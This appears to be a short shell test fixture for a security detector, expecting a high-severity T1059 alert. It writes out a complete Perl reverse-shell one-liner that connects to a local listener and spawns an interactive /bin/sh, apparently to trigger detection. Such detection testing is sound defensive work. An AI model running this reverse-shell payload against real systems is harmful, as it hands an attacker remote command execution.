# expects: high T1059
. "$STAGE/act.sh"
STAGE_TALK=$'id\nexit\n' listen
timeout 5 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in('$port',inet_aton("127.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
wait $listener
